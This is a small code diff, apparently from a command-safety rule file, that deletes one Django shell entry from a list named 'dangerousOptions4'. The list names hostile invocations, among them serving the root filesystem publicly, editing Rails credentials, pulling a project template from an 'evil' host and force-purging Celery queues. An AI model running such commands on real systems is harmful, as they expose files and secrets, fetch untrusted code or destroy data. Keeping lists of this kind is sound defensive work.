@@ -351,7 +351,6 @@ export const dangerousOptions4 = commands(
     webpack --config /tmp/x.js
     esbuild --servedir=/ --serve=0.0.0.0:80
     rails credentials:edit
-    python manage.py shell -c 'x'
     django-admin startproject --template=https://evil x
     flask --app /tmp/x run
     celery -A x purge -f
